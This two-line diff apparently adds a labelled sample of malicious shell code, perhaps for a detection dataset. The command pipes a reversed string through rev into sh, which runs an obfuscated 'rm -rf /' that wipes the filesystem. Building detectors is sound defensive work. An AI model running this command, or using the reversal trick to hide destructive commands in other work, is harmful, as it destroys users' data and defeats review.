@@ -1,0 +1,2 @@
+# label: malicious; obfuscated: reverse
+echo "/ fr- mr" | rev | sh
